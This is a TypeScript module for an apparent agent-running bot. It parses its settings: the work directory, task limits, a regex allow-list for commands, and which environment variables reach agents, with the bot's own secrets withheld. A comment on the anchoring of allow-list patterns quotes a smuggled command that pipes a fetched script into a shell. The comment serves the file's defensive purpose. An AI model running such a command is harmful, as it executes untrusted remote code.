import os from "node:os";
import path from "node:path";
import type { Clock, Logger } from "../core/deps.js";
import type { Tracing } from "../core/tracing.js";
import { ENVIRONMENT_NAME } from "./environment.js";
import type { RunnerLimits } from "./limits.js";
import { sandboxSettingFromEnv, type SandboxSetting } from "./sandbox.js";

export interface LocalTaskRunnerOptions {
  /** Where workspaces are made (FACTORY_WORKDIR). */
  workdir: string;
  /** Tasks run at once (FACTORY_MAX_TASKS); the rest wait in arrival order. */
  maxTasks: number;
  /** Tasks of one repository run at once (FACTORY_MAX_TASKS_PER_REPO), default 1. */
  maxTasksPerRepo?: number;
  /** FACTORY_ALLOWED_COMMANDS; null refuses every command. */
  allowedCommands: RegExp[] | null;
  /** FACTORY_AGENT_ENV: server variables the agent (not the tests) receives. */
  agentEnvNames: string[];
  /** The server's environment, from which PATH, HOME, LANG, TMPDIR and agentEnvNames are picked. */
  env: NodeJS.ProcessEnv;
  logger: Logger;
  clock: Clock;
  /** Time between SIGTERM and SIGKILL when a process group is stopped; default 5 s. */
  killGraceMs?: number;
  limits?: Partial<RunnerLimits>;
  /** FACTORY_SANDBOX and where bubblewrap is; default: read from `env`. */
  sandbox?: SandboxSetting;
  /** Spans for the agent and the tests; none by default. */
  tracing?: Tracing;
}

export type LocalRunnerEnvOptions = Pick<
  LocalTaskRunnerOptions,
  "workdir" | "maxTasks" | "maxTasksPerRepo" | "allowedCommands" | "agentEnvNames" | "env" | "sandbox"
>;

/** The bot's own credentials (docs/configuration.md, "Server environment"): never handed to an agent, whatever the operator lists. */
export const BOT_SECRET_NAMES: readonly string[] = [
  "PRIVATE_KEY",
  "PRIVATE_KEY_PATH",
  "WEBHOOK_SECRET",
  "GITHUB_CLIENT_SECRET",
  "GITLAB_TOKEN",
  "GITLAB_WEBHOOK_SECRET",
];

const DEFAULT_MAX_TASKS = 2;

/** Reads the local runner's FACTORY_* variables; throws an Error naming the variable when one is malformed. */
export function localRunnerOptionsFromEnv(env: NodeJS.ProcessEnv): LocalRunnerEnvOptions {
  return {
    workdir: parseWorkdir(env.FACTORY_WORKDIR),
    maxTasks: parseMaxTasks(env.FACTORY_MAX_TASKS, "FACTORY_MAX_TASKS", DEFAULT_MAX_TASKS),
    maxTasksPerRepo: parseMaxTasks(env.FACTORY_MAX_TASKS_PER_REPO, "FACTORY_MAX_TASKS_PER_REPO", 1),
    allowedCommands: parseAllowedCommands(env.FACTORY_ALLOWED_COMMANDS),
    agentEnvNames: agentEnvNamesFromEnv(env),
    env,
    sandbox: sandboxSettingFromEnv(env),
  };
}

/** FACTORY_AGENT_ENV alone, for `factory-bot task` in CI, where the other local-runner variables do not apply. */
export function agentEnvNamesFromEnv(env: NodeJS.ProcessEnv): string[] {
  return parseAgentEnvNames(env.FACTORY_AGENT_ENV);
}

function isBlank(value: string | undefined): value is undefined {
  return value === undefined || value.trim() === "";
}

function parseWorkdir(value: string | undefined): string {
  return isBlank(value) ? os.tmpdir() : path.resolve(value);
}

function parseMaxTasks(value: string | undefined, name: string, fallback: number): number {
  if (isBlank(value)) return fallback;
  const trimmed = value.trim();
  if (!/^[0-9]+$/.test(trimmed) || Number(trimmed) < 1) {
    throw new Error(`${name} must be a positive whole number of tasks, got "${value}".`);
  }
  return Number(trimmed);
}

function parseAllowedCommands(value: string | undefined): RegExp[] | null {
  if (isBlank(value)) return null;
  let parsed: unknown;
  try {
    parsed = JSON.parse(value);
  } catch (error) {
    throw new Error(
      `FACTORY_ALLOWED_COMMANDS must be a JSON array of regular expressions, e.g. ["^npm test$"]: ${errorMessage(error)}`,
    );
  }
  if (!Array.isArray(parsed) || !parsed.every((item) => typeof item === "string")) {
    throw new Error(
      `FACTORY_ALLOWED_COMMANDS must be a JSON array of strings (regular expressions), e.g. ["^npm test$"].`,
    );
  }
  return parsed.map((source, index) => compilePattern(source, index));
}

/**
 * Each pattern must match the whole command: a prefix such as `^droid exec ` would also allow
 * `droid exec x; curl evil | sh`. `.` never matches a newline, so a second line cannot slip in.
 */
function compilePattern(source: string, index: number): RegExp {
  try {
    return new RegExp(`^(?:${source})$`);
  } catch (error) {
    throw new Error(`FACTORY_ALLOWED_COMMANDS[${index}] is not a valid regular expression: ${errorMessage(error)}`);
  }
}

function parseAgentEnvNames(value: string | undefined): string[] {
  if (isBlank(value)) return [];
  const names = value
    .split(",")
    .map((name) => name.trim())
    .filter((name) => name !== "");
  for (const name of names) {
    if (!ENVIRONMENT_NAME.test(name)) {
      throw new Error(`FACTORY_AGENT_ENV lists "${name}", which is not an environment variable name.`);
    }
    if (BOT_SECRET_NAMES.includes(name)) {
      throw new Error(`FACTORY_AGENT_ENV lists ${name}, one of the bot's own credentials; agents never receive those.`);
    }
  }
  return names;
}

function errorMessage(error: unknown): string {
  return error instanceof Error ? error.message : String(error);
}
